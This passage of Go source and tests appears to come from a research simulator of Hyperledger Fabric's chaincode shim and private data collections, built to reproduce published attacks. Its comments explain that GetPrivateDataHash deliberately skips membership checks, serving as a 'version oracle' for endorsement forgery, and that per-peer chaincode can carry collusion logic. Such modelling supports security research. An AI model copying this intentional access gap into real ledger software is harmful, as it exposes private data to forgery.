		t.Fatalf("non-member PutPrivateData: %v", err)
	}
	if err := e.stub.DelPrivateData("pdc1", "k2"); err != nil {
		t.Fatalf("non-member DelPrivateData: %v", err)
	}
}

func TestMemberOnlyRead(t *testing.T) {
	// Client of non-member org3 asks a member peer to read: rejected
	// when MemberOnlyRead is set.
	e := newStubEnv("org1", "org3", true)
	_, err := e.stub.GetPrivateData("pdc1", "k")
	if !errors.Is(err, ErrMemberOnlyRead) {
		t.Fatalf("err = %v, want ErrMemberOnlyRead", err)
	}
	// Member client is fine.
	e = newStubEnv("org1", "org2", true)
	if _, err := e.stub.GetPrivateData("pdc1", "k"); err != nil {
		t.Fatalf("member client rejected: %v", err)
	}
}

func TestUnknownCollection(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	if _, err := e.stub.GetPrivateData("nope", "k"); !errors.Is(err, ErrUnknownCollection) {
		t.Fatalf("err = %v", err)
	}
	if _, err := e.stub.GetPrivateDataHash("nope", "k"); !errors.Is(err, ErrUnknownCollection) {
		t.Fatalf("err = %v", err)
	}
	if err := e.stub.PutPrivateData("nope", "k", nil); !errors.Is(err, ErrUnknownCollection) {
		t.Fatalf("err = %v", err)
	}
	if err := e.stub.DelPrivateData("nope", "k"); !errors.Is(err, ErrUnknownCollection) {
		t.Fatalf("err = %v", err)
	}
}

func TestRouter(t *testing.T) {
	r := Router{
		"hello": func(stub Stub) ledger.Response {
			return SuccessResponse([]byte("world"))
		},
	}
	e := newStubEnv("org1", "org1", false)
	resp := r.Invoke(withFunction(e.stub, "hello"))
	if resp.Status != ledger.StatusOK || string(resp.Payload) != "world" {
		t.Fatalf("resp = %+v", resp)
	}
	resp = r.Invoke(withFunction(e.stub, "nope"))
	if resp.Status != ledger.StatusError {
		t.Fatal("unknown function not rejected")
	}
}

// withFunction wraps a stub overriding the function name.
type funcOverride struct {
	Stub
	fn string
}

func (f funcOverride) Function() string { return f.fn }

func withFunction(s Stub, fn string) Stub { return funcOverride{Stub: s, fn: fn} }

func TestDefinitionCollectionLookup(t *testing.T) {
	def := testDef(false)
	if def.Collection("pdc1") == nil {
		t.Fatal("collection not found")
	}
	if def.Collection("other") != nil {
		t.Fatal("phantom collection")
	}
}

func TestRegistry(t *testing.T) {
	r := NewRegistry()
	if r.Get("cc") != nil {
		t.Fatal("empty registry returned chaincode")
	}
	first := Router{}
	second := Router{"f": func(Stub) ledger.Response { return SuccessResponse(nil) }}
	r.Install("cc", first)
	r.Install("cc", second) // per-peer override — the customizable chaincode
	got, ok := r.Get("cc").(Router)
	if !ok || len(got) != 1 {
		t.Fatal("override not applied")
	}
}

func TestFuncAdapter(t *testing.T) {
	called := false
	f := Func(func(Stub) ledger.Response {
		called = true
		return SuccessResponse(nil)
	})
	f.Invoke(nil)
	if !called {
		t.Fatal("Func adapter broken")
	}
	if ErrorResponse("x").Message != "x" {
		t.Fatal("ErrorResponse message lost")
	}
}

func TestStubRangeQueryRecording(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	e.db.Put("cc", "a1", []byte("1"))
	e.db.Put("cc", "a2", []byte("2"))
	e.db.Put("cc", "b1", []byte("3"))

	kvs, err := e.stub.GetStateByRange("a", "b")
	if err != nil {
		t.Fatal(err)
	}
	if len(kvs) != 2 || kvs[0].Key != "a1" || kvs[1].Key != "a2" {
		t.Fatalf("kvs = %+v", kvs)
	}
	set, _ := e.builder.Build("tx1")
	if len(set.NsRWSets) != 1 || len(set.NsRWSets[0].RangeQueries) != 1 {
		t.Fatalf("range queries = %+v", set.NsRWSets)
	}
	rq := set.NsRWSets[0].RangeQueries[0]
	if rq.StartKey != "a" || rq.EndKey != "b" || len(rq.Reads) != 2 {
		t.Fatalf("rq = %+v", rq)
	}
	if rq.Reads[0].Version != 1 {
		t.Fatalf("recorded version = %d", rq.Reads[0].Version)
	}
}

func TestStubValidationParameters(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	if err := e.stub.SetStateValidationParameter("k", "AND(org1.peer, org2.peer)"); err != nil {
		t.Fatal(err)
	}
	if err := e.stub.SetStateValidationParameter("k", "not-a-policy("); err == nil {
		t.Fatal("broken policy accepted")
	}
	set, _ := e.builder.Build("tx1")
	if len(set.NsRWSets) != 1 || len(set.NsRWSets[0].MetaWrites) != 1 {
		t.Fatalf("meta writes = %+v", set.NsRWSets)
	}
	if set.NsRWSets[0].MetaWrites[0].Policy != "AND(org1.peer, org2.peer)" {
		t.Fatalf("policy = %q", set.NsRWSets[0].MetaWrites[0].Policy)
	}

	// GetStateValidationParameter reads the committed metadata.
	e.db.Put(statedb.MetadataNamespace("cc"), "j", []byte("OR(org1.peer)"))
	spec, err := e.stub.GetStateValidationParameter("j")
	if err != nil || spec != "OR(org1.peer)" {
		t.Fatalf("spec = %q, %v", spec, err)
	}
}

func TestStubEvents(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	sim, ok := e.stub.(*SimStub)
	if !ok {
		t.Fatal("stub is not a SimStub")
	}
	if sim.Event() != nil {
		t.Fatal("fresh stub has an event")
	}
	if err := e.stub.SetEvent("", []byte("x")); err == nil {
		t.Fatal("empty event name accepted")
	}
	if err := e.stub.SetEvent("First", []byte("1")); err != nil {
		t.Fatal(err)
	}
	if err := e.stub.SetEvent("Second", []byte("2")); err != nil {
		t.Fatal(err)
	}
	ev := sim.Event()
	if ev == nil || ev.Name != "Second" || string(ev.Payload) != "2" {
		t.Fatalf("event = %+v, want the last one", ev)
	}
}

func TestStubInvokeChaincode(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	// Without a resolver, invocation is unavailable.
	if _, err := e.stub.InvokeChaincode("other", "f", nil); !errors.Is(err, ErrChaincodeUnavailable) {
		t.Fatalf("err = %v", err)
	}
	sim := e.stub.(*SimStub)
	otherDef := &Definition{Name: "other", Version: "1.0"}
	otherImpl := Router{
		"f": func(stub Stub) ledger.Response {
			if err := stub.PutState("callee-key", []byte("v")); err != nil {
				return ErrorResponse(err.Error())
			}
			return SuccessResponse([]byte("from-callee"))
		},
	}
	sim.SetResolver(func(name string) (*Definition, Chaincode) {
		if name == "other" {
			return otherDef, otherImpl
		}
		return nil, nil
	})
	resp, err := e.stub.InvokeChaincode("other", "f", nil)
	if err != nil || string(resp.Payload) != "from-callee" {
		t.Fatalf("resp = %+v, %v", resp, err)
	}
	// The callee's write landed in its own namespace in this tx's set.
	set, _ := e.builder.Build("tx1")
	found := false
	for _, ns := range set.NsRWSets {
		if ns.Namespace == "other" && len(ns.Writes) == 1 && ns.Writes[0].Key == "callee-key" {
			found = true
		}
	}
	if !found {
		t.Fatalf("callee write missing: %+v", set.NsRWSets)
	}
	// Unknown callee.
	if _, err := e.stub.InvokeChaincode("ghost", "f", nil); !errors.Is(err, ErrChaincodeUnavailable) {
		t.Fatalf("err = %v", err)
	}
}
