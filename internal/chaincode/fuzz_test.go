package chaincode

import "testing"

// FuzzCompositeKey checks create/split/range never panic and that
// accepted keys round-trip.
func FuzzCompositeKey(f *testing.F) {
	f.Add("asset", "org1", "widget")
	f.Add("", "", "")
	f.Add("a\x00b", "c", "d")
	f.Add("ot", "", "x")
	f.Fuzz(func(t *testing.T, objectType, a, b string) {
		key, err := CreateCompositeKey(objectType, a, b)
		if err != nil {
			return
		}
		ot, attrs, err := SplitCompositeKey(key)
		if err != nil {
			t.Fatalf("created key %q does not split: %v", key, err)
		}
		if ot != objectType || len(attrs) != 2 || attrs[0] != a || attrs[1] != b {
			t.Fatalf("round trip: %q -> %q %v", key, ot, attrs)
		}
		start, end, err := CompositeKeyRange(objectType, a)
		if err != nil {
			t.Fatalf("range failed for accepted parts: %v", err)
		}
		if !(key >= start && key < end) {
			t.Fatalf("key %q outside its prefix range [%q, %q)", key, start, end)
		}
	})
}
