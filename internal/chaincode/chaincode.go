// Package chaincode implements smart contracts ("chaincode") and the shim
// API they program against: GetState/PutState/DelState for public data and
// GetPrivateData/PutPrivateData/DelPrivateData/GetPrivateDataHash for
// private data collections.
//
// Two properties of real Fabric that the paper's attacks depend on are
// reproduced faithfully here:
//
//  1. Chaincode is registered per peer (the Registry), because Fabric only
//     requires execution *results* to match across endorsers, not the code
//     itself. Organizations may extend the code with their own business
//     logic — or, as in §IV-A1, with malicious collusion logic.
//
//  2. GetPrivateDataHash succeeds on every peer in the channel, including
//     PDC non-members, and reports the same version a member peer would
//     read from its private store. This is the version oracle the
//     endorsement forgery uses.
package chaincode

import (
	"errors"
	"fmt"
	"sync"

	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/policy"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
	"repro/internal/statedb"
)

// KV is one result of a range scan: a key with its current value.
type KV struct {
	Key   string
	Value []byte
}

// Shim errors surfaced to chaincode.
var (
	// ErrPrivateDataUnavailable is returned when a peer that is not a
	// member of the collection tries to read original private data
	// (paper Use Case 1: non-member endorsers error on read proposals).
	ErrPrivateDataUnavailable = errors.New("chaincode: private data is not available on this peer")
	// ErrMemberOnlyRead is returned when MemberOnlyRead is set and the
	// requesting client's organization is not a collection member.
	ErrMemberOnlyRead = errors.New("chaincode: collection is member-only read")
	// ErrMemberOnlyWrite is returned when MemberOnlyWrite is set and the
	// requesting client's organization is not a collection member.
	ErrMemberOnlyWrite = errors.New("chaincode: collection is member-only write")
	// ErrUnknownCollection is returned for operations on an undefined
	// collection.
	ErrUnknownCollection = errors.New("chaincode: unknown collection")
)

// Stub is the API surface chaincode programs against during simulation.
type Stub interface {
	// TxID returns the transaction ID being simulated.
	TxID() string
	// Function returns the invoked function name.
	Function() string
	// Args returns the invocation arguments (excluding the function).
	Args() []string
	// Transient returns a confidential input by key; nil when absent.
	Transient(key string) []byte
	// Creator returns the certificate of the submitting client.
	Creator() *identity.Certificate
	// PeerOrg returns the organization of the peer executing the
	// simulation. Customizable chaincode uses this to apply per-org
	// business constraints.
	PeerOrg() string

	// GetState reads a public key; nil value when absent.
	GetState(key string) ([]byte, error)
	// PutState writes a public key.
	PutState(key string, value []byte) error
	// DelState deletes a public key.
	DelState(key string) error
	// GetStateByRange scans public keys in [startKey, endKey), sorted.
	// An empty endKey scans to the end. The observed keys and versions
	// are recorded for phantom-read protection in the validation phase.
	GetStateByRange(startKey, endKey string) ([]KV, error)
	// SetStateValidationParameter sets the key-level endorsement policy
	// of a public key (a signature-policy expression such as
	// "AND(org1.peer, org2.peer)"). Transactions that later write the
	// key must satisfy this policy instead of the chaincode-level one.
	SetStateValidationParameter(key, policySpec string) error
	// GetStateValidationParameter returns the key-level endorsement
	// policy of a public key ("" when none is set).
	GetStateValidationParameter(key string) (string, error)
	// SetEvent attaches a chaincode event to the transaction (at most
	// one per transaction; a second call replaces the first). Events
	// are stored in plaintext in every peer's blockchain.
	SetEvent(name string, payload []byte) error
	// InvokeChaincode calls a function of another chaincode installed
	// on the same peer, within the same transaction simulation: the
	// callee's reads and writes are recorded under its own namespace in
	// this transaction's read/write set, as in Fabric's
	// cross-chaincode invocation.
	InvokeChaincode(name, function string, args []string) (ledger.Response, error)

	// GetPrivateData reads the original private value of key in the
	// collection. Only collection member peers can serve it.
	GetPrivateData(collection, key string) ([]byte, error)
	// GetPrivateDataHash reads the SHA-256 of the private value from
	// the hashed store. Works on every peer in the channel.
	GetPrivateDataHash(collection, key string) ([]byte, error)
	// PutPrivateData stages a private write.
	PutPrivateData(collection, key string, value []byte) error
	// DelPrivateData stages a private delete.
	DelPrivateData(collection, key string) error
}

// Chaincode is a smart contract: business logic operating on the world
// state through a Stub.
type Chaincode interface {
	// Invoke executes the function named in the stub and returns the
	// chaincode response whose Payload travels back to the client.
	Invoke(stub Stub) ledger.Response
}

// Func adapts a plain function to the Chaincode interface.
type Func func(stub Stub) ledger.Response

// Invoke implements Chaincode.
func (f Func) Invoke(stub Stub) ledger.Response { return f(stub) }

// Router dispatches on the invoked function name; unknown functions
// produce an error response.
type Router map[string]Func

var _ Chaincode = Router(nil)

// Invoke implements Chaincode.
func (r Router) Invoke(stub Stub) ledger.Response {
	fn, ok := r[stub.Function()]
	if !ok {
		return ErrorResponse(fmt.Sprintf("unknown function %q", stub.Function()))
	}
	return fn(stub)
}

// SuccessResponse builds an OK response with the given payload.
func SuccessResponse(payload []byte) ledger.Response {
	return ledger.Response{Status: ledger.StatusOK, Payload: payload}
}

// ErrorResponse builds a failed response with the given message.
func ErrorResponse(msg string) ledger.Response {
	return ledger.Response{Status: ledger.StatusError, Message: msg}
}

// Definition is the channel-wide agreement about a chaincode: its name,
// version, chaincode-level endorsement policy and collection
// configurations. The implementation itself stays per-peer.
type Definition struct {
	Name    string
	Version string
	// EndorsementPolicy is the chaincode-level policy specification:
	// either a signature policy ("AND(org1.peer, org2.peer)") or an
	// implicitMeta specification ("MAJORITY Endorsement"). Empty means
	// "use the channel default".
	EndorsementPolicy string
	// Collections are the private data collections of the chaincode.
	Collections []pvtdata.CollectionConfig
}

// Collection returns the named collection config, or nil. Implicit
// per-org collections ("_implicit_org_<org>") resolve even though they
// appear in no configuration file, mirroring Fabric.
func (d *Definition) Collection(name string) *pvtdata.CollectionConfig {
	for i := range d.Collections {
		if d.Collections[i].Name == name {
			return &d.Collections[i]
		}
	}
	if cfg, ok := pvtdata.ImplicitCollection(name); ok {
		return &cfg
	}
	return nil
}

// Registry holds the chaincode implementations installed on one peer.
// Installing different implementations of the same definition on
// different peers models Fabric's customizable chaincode.
type Registry struct {
	mu    sync.RWMutex
	impls map[string]Chaincode
}

// NewRegistry creates an empty registry.
func NewRegistry() *Registry {
	return &Registry{impls: make(map[string]Chaincode)}
}

// Install registers the implementation of a chaincode on this peer,
// replacing any previous implementation.
func (r *Registry) Install(name string, cc Chaincode) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.impls[name] = cc
}

// Get returns the installed implementation, or nil.
func (r *Registry) Get(name string) Chaincode {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return r.impls[name]
}

// SimStub is the Stub implementation used during endorsement simulation.
// The endorser retrieves the captured chaincode event through Event after
// the chaincode returns.
type SimStub struct {
	proposal *ledger.Proposal
	creator  *identity.Certificate
	peerOrg  string
	def      *Definition
	db       *statedb.DB
	pvt      *pvtdata.Store
	builder  *rwset.Builder
	memberOf func(collection string) bool
	event    *ledger.ChaincodeEvent
	resolver Resolver
	// snap is the consistent world-state view the simulation reads from,
	// materialized lazily at the first state access so the whole
	// invocation observes one commit point without holding database
	// locks. Cross-chaincode callees share the caller's view.
	snap *statedb.Snapshot
}

var _ Stub = (*SimStub)(nil)

// NewSimStub creates the simulation stub the endorser hands to chaincode.
// memberOf reports whether the executing peer's org is a member of a
// collection; the builder accumulates the read/write sets.
func NewSimStub(
	proposal *ledger.Proposal,
	creator *identity.Certificate,
	peerOrg string,
	def *Definition,
	db *statedb.DB,
	pvt *pvtdata.Store,
	builder *rwset.Builder,
) *SimStub {
	s := &SimStub{
		proposal: proposal,
		creator:  creator,
		peerOrg:  peerOrg,
		def:      def,
		db:       db,
		pvt:      pvt,
		builder:  builder,
	}
	s.memberOf = func(coll string) bool {
		cfg := def.Collection(coll)
		return cfg != nil && cfg.IsMember(peerOrg)
	}
	return s
}

func (s *SimStub) TxID() string     { return s.proposal.TxID }
func (s *SimStub) Function() string { return s.proposal.Function }
func (s *SimStub) Args() []string   { return s.proposal.Args }
func (s *SimStub) PeerOrg() string  { return s.peerOrg }

func (s *SimStub) Transient(key string) []byte {
	return s.proposal.Transient[key]
}

func (s *SimStub) Creator() *identity.Certificate { return s.creator }

// view returns the stub's world-state snapshot, taking it on first use.
// Every read of the simulation — public, metadata, and private — goes
// through it, so concurrent block commits cannot produce a torn read set.
func (s *SimStub) view() *statedb.Snapshot {
	if s.snap == nil {
		s.snap = s.db.Snapshot()
	}
	return s.snap
}

// Close releases the stub's snapshot (if one was materialized) so
// subsequent commits stop paying copy-on-write for it. Reads after Close
// remain valid; the endorser closes the stub once simulation finishes.
func (s *SimStub) Close() {
	if s.snap != nil {
		s.snap.Release()
	}
}

func (s *SimStub) GetState(key string) ([]byte, error) {
	value, ver, _ := s.view().Get(s.def.Name, key)
	s.builder.AddRead(s.def.Name, key, rwset.KVRead{Key: key, Version: ver})
	return value, nil
}

func (s *SimStub) PutState(key string, value []byte) error {
	s.builder.AddWrite(s.def.Name, key, rwset.KVWrite{Key: key, Value: value})
	return nil
}

func (s *SimStub) DelState(key string) error {
	s.builder.AddWrite(s.def.Name, key, rwset.KVWrite{Key: key, IsDelete: true})
	return nil
}

func (s *SimStub) GetStateByRange(startKey, endKey string) ([]KV, error) {
	// Iterate the snapshot page by page so a large result set never
	// materializes as one slice inside the store.
	it := s.view().RangeIter(s.def.Name, startKey, endKey, statedb.DefaultRangePageSize)
	var out []KV
	rq := rwset.RangeQuery{StartKey: startKey, EndKey: endKey}
	for {
		page := it.NextPage()
		if page == nil {
			break
		}
		for _, kv := range page {
			out = append(out, KV{Key: kv.Key, Value: kv.Value})
			rq.Reads = append(rq.Reads, rwset.KVRead{Key: kv.Key, Version: kv.Version})
		}
	}
	s.builder.AddRangeQuery(s.def.Name, rq)
	return out, nil
}

func (s *SimStub) SetStateValidationParameter(key, policySpec string) error {
	if _, err := policy.Parse(policySpec); err != nil {
		return fmt.Errorf("chaincode: validation parameter for %q: %w", key, err)
	}
	s.builder.AddMetaWrite(s.def.Name, key, rwset.KVMetaWrite{Key: key, Policy: policySpec})
	return nil
}

func (s *SimStub) GetStateValidationParameter(key string) (string, error) {
	value, _, _ := s.view().Get(statedb.MetadataNamespace(s.def.Name), key)
	return string(value), nil
}

// SetEvent implements Stub.
func (s *SimStub) SetEvent(name string, payload []byte) error {
	if name == "" {
		return errors.New("chaincode: event name must not be empty")
	}
	s.event = &ledger.ChaincodeEvent{Name: name, Payload: append([]byte(nil), payload...)}
	return nil
}

// Event returns the chaincode event captured during simulation, or nil.
// The endorser embeds it in the proposal response payload.
func (s *SimStub) Event() *ledger.ChaincodeEvent { return s.event }

// Resolver locates another chaincode installed on the same peer:
// definition plus implementation, or nils when absent.
type Resolver func(name string) (*Definition, Chaincode)

// SetResolver enables cross-chaincode invocation by providing the peer's
// chaincode lookup. The endorser installs it before running chaincode.
func (s *SimStub) SetResolver(r Resolver) { s.resolver = r }

// ErrChaincodeUnavailable is returned by InvokeChaincode when the callee
// is not installed (or no resolver was configured).
var ErrChaincodeUnavailable = errors.New("chaincode: callee chaincode unavailable")

// InvokeChaincode implements Stub.
func (s *SimStub) InvokeChaincode(name, function string, args []string) (ledger.Response, error) {
	if s.resolver == nil {
		return ledger.Response{}, fmt.Errorf("%w: no resolver", ErrChaincodeUnavailable)
	}
	def, impl := s.resolver(name)
	if def == nil || impl == nil {
		return ledger.Response{}, fmt.Errorf("%w: %q", ErrChaincodeUnavailable, name)
	}
	// The callee shares this transaction's builder (its namespaces are
	// distinct) and identity context, but gets its own proposal view.
	calleeProp := *s.proposal
	calleeProp.Chaincode = name
	calleeProp.Function = function
	calleeProp.Args = args
	callee := NewSimStub(&calleeProp, s.creator, s.peerOrg, def, s.db, s.pvt, s.builder)
	callee.SetResolver(s.resolver)
	// Caller and callee must observe the same commit point; hand the
	// callee the caller's snapshot (materializing it now if needed).
	callee.snap = s.view()
	resp := impl.Invoke(callee)
	// A callee event does not replace the caller's (Fabric: only the
	// outermost chaincode's event is recorded).
	return resp, nil
}

func (s *SimStub) collection(name string) (*pvtdata.CollectionConfig, error) {
	cfg := s.def.Collection(name)
	if cfg == nil {
		return nil, fmt.Errorf("%w: %q", ErrUnknownCollection, name)
	}
	return cfg, nil
}

func (s *SimStub) GetPrivateData(collection, key string) ([]byte, error) {
	cfg, err := s.collection(collection)
	if err != nil {
		return nil, err
	}
	if cfg.MemberOnlyRead && !cfg.IsMember(s.creator.Org) {
		return nil, fmt.Errorf("%w: collection %q, client org %q", ErrMemberOnlyRead, collection, s.creator.Org)
	}
	if !s.memberOf(collection) {
		// Use Case 1: a non-member peer has no original private data;
		// read proposals fail at endorsement with an error.
		return nil, fmt.Errorf("%w: collection %q, peer org %q", ErrPrivateDataUnavailable, collection, s.peerOrg)
	}
	value, ver, _ := s.view().Get(pvtdata.PrivateNamespace(s.def.Name, collection), key)
	s.builder.AddPvtRead(collection, key, rwset.KVRead{Key: key, Version: ver})
	return value, nil
}

func (s *SimStub) GetPrivateDataHash(collection, key string) ([]byte, error) {
	if _, err := s.collection(collection); err != nil {
		return nil, err
	}
	// Deliberately no membership check: any peer in the channel stores
	// the hashed tuples and may query them. The recorded read carries
	// the same ⟨hash(key), version⟩ a member's GetPrivateData would
	// produce — the paper's §IV-A1 version oracle.
	valueHash, ver, _ := s.view().Get(pvtdata.HashedNamespace(s.def.Name, collection), pvtdata.HashedKey(key))
	s.builder.AddPvtRead(collection, key, rwset.KVRead{Key: key, Version: ver})
	return valueHash, nil
}

func (s *SimStub) PutPrivateData(collection, key string, value []byte) error {
	cfg, err := s.collection(collection)
	if err != nil {
		return err
	}
	if cfg.MemberOnlyWrite && !cfg.IsMember(s.creator.Org) {
		return fmt.Errorf("%w: collection %q, client org %q", ErrMemberOnlyWrite, collection, s.creator.Org)
	}
	// No peer-membership check: write-only transactions have an empty
	// read set and succeed on every peer (Use Case 1).
	s.builder.AddPvtWrite(collection, key, rwset.KVWrite{Key: key, Value: value})
	return nil
}

func (s *SimStub) DelPrivateData(collection, key string) error {
	cfg, err := s.collection(collection)
	if err != nil {
		return err
	}
	if cfg.MemberOnlyWrite && !cfg.IsMember(s.creator.Org) {
		return fmt.Errorf("%w: collection %q, client org %q", ErrMemberOnlyWrite, collection, s.creator.Org)
	}
	s.builder.AddPvtWrite(collection, key, rwset.KVWrite{Key: key, IsDelete: true})
	return nil
}
