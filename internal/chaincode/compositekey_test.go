package chaincode

import (
	"errors"
	"sort"
	"testing"
	"testing/quick"
)

func TestCompositeKeyRoundTrip(t *testing.T) {
	key, err := CreateCompositeKey("asset", "org1", "widget")
	if err != nil {
		t.Fatal(err)
	}
	ot, attrs, err := SplitCompositeKey(key)
	if err != nil {
		t.Fatal(err)
	}
	if ot != "asset" || len(attrs) != 2 || attrs[0] != "org1" || attrs[1] != "widget" {
		t.Fatalf("split = %q %v", ot, attrs)
	}

	// Zero attributes.
	key, err = CreateCompositeKey("asset")
	if err != nil {
		t.Fatal(err)
	}
	ot, attrs, err = SplitCompositeKey(key)
	if err != nil || ot != "asset" || len(attrs) != 0 {
		t.Fatalf("split bare = %q %v %v", ot, attrs, err)
	}
}

func TestCompositeKeyValidation(t *testing.T) {
	if _, err := CreateCompositeKey(""); !errors.Is(err, ErrEmptyObjectType) {
		t.Fatalf("empty object type: %v", err)
	}
	if _, err := CreateCompositeKey("a\x00b"); err == nil {
		t.Fatal("U+0000 in object type accepted")
	}
	if _, err := CreateCompositeKey("asset", "a\x00b"); err == nil {
		t.Fatal("U+0000 in attribute accepted")
	}
	if _, err := CreateCompositeKey("asset", string([]byte{0xff, 0xfe})); err == nil {
		t.Fatal("invalid UTF-8 accepted")
	}
	if _, _, err := SplitCompositeKey("not-composite"); err == nil {
		t.Fatal("non-composite split accepted")
	}
	if _, _, err := SplitCompositeKey("\x00broken"); err == nil {
		t.Fatal("unterminated composite split accepted")
	}
}

// TestCompositeKeyRangeCoversPrefix: every key extending a prefix sorts
// within the range returned by CompositeKeyRange, and keys of other
// object types sort outside it.
func TestCompositeKeyRangeCoversPrefix(t *testing.T) {
	start, end, err := CompositeKeyRange("asset", "org1")
	if err != nil {
		t.Fatal(err)
	}
	in, _ := CreateCompositeKey("asset", "org1", "widget")
	in2, _ := CreateCompositeKey("asset", "org1")
	outOT, _ := CreateCompositeKey("assez", "org1", "widget")
	outAttr, _ := CreateCompositeKey("asset", "org2", "widget")

	within := func(k string) bool { return k >= start && k < end }
	if !within(in) || !within(in2) {
		t.Fatal("prefix extension outside range")
	}
	if within(outOT) || within(outAttr) {
		t.Fatal("foreign key inside range")
	}
}

// TestCompositeKeyOrderingQuick: round-trip holds and the range property
// holds for arbitrary attribute values without U+0000.
func TestCompositeKeyOrderingQuick(t *testing.T) {
	clean := func(s string) string {
		out := make([]rune, 0, len(s))
		for _, r := range s {
			if r != 0 {
				out = append(out, r)
			}
		}
		return string(out)
	}
	f := func(a, b string) bool {
		a, b = clean(a), clean(b)
		key, err := CreateCompositeKey("ot", a, b)
		if err != nil {
			return false
		}
		ot, attrs, err := SplitCompositeKey(key)
		if err != nil || ot != "ot" || len(attrs) != 2 || attrs[0] != a || attrs[1] != b {
			return false
		}
		start, end, err := CompositeKeyRange("ot", a)
		if err != nil {
			return false
		}
		return key >= start && key < end
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCompositeKeysSortByAttribute(t *testing.T) {
	keys := make([]string, 0, 3)
	for _, attr := range []string{"c", "a", "b"} {
		k, _ := CreateCompositeKey("ot", attr)
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for i, want := range []string{"a", "b", "c"} {
		_, attrs, _ := SplitCompositeKey(keys[i])
		if attrs[0] != want {
			t.Fatalf("sorted[%d] attr = %q, want %q", i, attrs[0], want)
		}
	}
}
