package chaincode

import (
	"errors"
	"fmt"
	"strings"
	"unicode/utf8"
)

// Composite keys let chaincode build multi-attribute keys whose prefix
// can be range-scanned, e.g. all entries of an object type. The encoding
// mirrors Fabric's: a U+0000 namespace marker, then the object type and
// each attribute, each terminated by U+0000.
const (
	compositeKeyNamespace = "\x00"
	keyDelimiter          = "\x00"
)

// ErrEmptyObjectType is returned when a composite key is created without
// an object type.
var ErrEmptyObjectType = errors.New("chaincode: composite key object type must not be empty")

// CreateCompositeKey builds a composite key from an object type and
// attributes.
func CreateCompositeKey(objectType string, attributes ...string) (string, error) {
	if objectType == "" {
		return "", ErrEmptyObjectType
	}
	if err := validateCompositeKeyPart(objectType); err != nil {
		return "", err
	}
	var b strings.Builder
	b.WriteString(compositeKeyNamespace)
	b.WriteString(objectType)
	b.WriteString(keyDelimiter)
	for _, attr := range attributes {
		if err := validateCompositeKeyPart(attr); err != nil {
			return "", err
		}
		b.WriteString(attr)
		b.WriteString(keyDelimiter)
	}
	return b.String(), nil
}

// SplitCompositeKey decomposes a composite key into its object type and
// attributes.
func SplitCompositeKey(compositeKey string) (objectType string, attributes []string, err error) {
	if !strings.HasPrefix(compositeKey, compositeKeyNamespace) || len(compositeKey) < 2 {
		return "", nil, fmt.Errorf("chaincode: %q is not a composite key", compositeKey)
	}
	parts := strings.Split(compositeKey[1:], keyDelimiter)
	if len(parts) < 2 || parts[len(parts)-1] != "" {
		return "", nil, fmt.Errorf("chaincode: malformed composite key %q", compositeKey)
	}
	// The final delimiter produces one trailing empty element.
	return parts[0], parts[1 : len(parts)-1], nil
}

// CompositeKeyRange returns the [start, end) key range covering every
// composite key with the given object type and attribute prefix, for use
// with GetStateByRange. Every key extending the prefix sorts at or above
// the prefix itself and strictly below the prefix with its final U+0000
// delimiter bumped to U+0001.
func CompositeKeyRange(objectType string, attributes ...string) (startKey, endKey string, err error) {
	start, err := CreateCompositeKey(objectType, attributes...)
	if err != nil {
		return "", "", err
	}
	return start, start[:len(start)-1] + "\x01", nil
}

func validateCompositeKeyPart(s string) error {
	if !utf8.ValidString(s) {
		return fmt.Errorf("chaincode: composite key part %q is not valid UTF-8", s)
	}
	if strings.Contains(s, keyDelimiter) {
		return fmt.Errorf("chaincode: composite key part %q contains U+0000", s)
	}
	return nil
}
