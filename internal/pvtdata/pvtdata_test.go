package pvtdata

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"repro/internal/fabcrypto"
	"repro/internal/rwset"
	"repro/internal/statedb"
)

func validConfig() CollectionConfig {
	return CollectionConfig{
		Name:              "pdc1",
		MemberPolicy:      "OR(org1.member, org2.member)",
		RequiredPeerCount: 0,
		MaxPeerCount:      3,
	}
}

func TestCollectionConfigValidate(t *testing.T) {
	cfg := validConfig()
	if err := cfg.Validate(); err != nil {
		t.Fatalf("valid config rejected: %v", err)
	}

	bad := cfg
	bad.Name = ""
	if err := bad.Validate(); err == nil {
		t.Error("empty name accepted")
	}
	bad = cfg
	bad.MemberPolicy = ""
	if err := bad.Validate(); err == nil {
		t.Error("empty member policy accepted")
	}
	bad = cfg
	bad.MemberPolicy = "NOT-A-POLICY"
	if err := bad.Validate(); err == nil {
		t.Error("unparsable member policy accepted")
	}
	bad = cfg
	bad.EndorsementPolicy = "garbage("
	if err := bad.Validate(); err == nil {
		t.Error("unparsable endorsement policy accepted")
	}
	bad = cfg
	bad.RequiredPeerCount = -1
	if err := bad.Validate(); err == nil {
		t.Error("negative requiredPeerCount accepted")
	}
	bad = cfg
	bad.RequiredPeerCount = 5
	bad.MaxPeerCount = 2
	if err := bad.Validate(); err == nil {
		t.Error("max < required accepted")
	}
	// MaxPeerCount 0 disables dissemination (push to none), so a
	// positive RequiredPeerCount can never be met.
	bad = cfg
	bad.RequiredPeerCount = 1
	bad.MaxPeerCount = 0
	err := bad.Validate()
	if err == nil {
		t.Error("requiredPeerCount > 0 with maxPeerCount 0 accepted")
	} else if !strings.Contains(err.Error(), "disables dissemination") {
		t.Errorf("unexpected rejection message: %v", err)
	}
	// MaxPeerCount 0 with RequiredPeerCount 0 stays legal: dissemination
	// off, members rely on reconciliation.
	ok := cfg
	ok.RequiredPeerCount = 0
	ok.MaxPeerCount = 0
	if err := ok.Validate(); err != nil {
		t.Errorf("maxPeerCount 0, requiredPeerCount 0 rejected: %v", err)
	}
}

// TestPurgeQueueConcurrency exercises SchedulePurge and PurgeUpTo from
// concurrent goroutines — the commit pipeline and the reconciler may
// reach the store at the same time. Run with -race.
func TestPurgeQueueConcurrency(t *testing.T) {
	db := statedb.New()
	s := NewStore(db)
	const writers = 4
	const perWriter = 200

	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
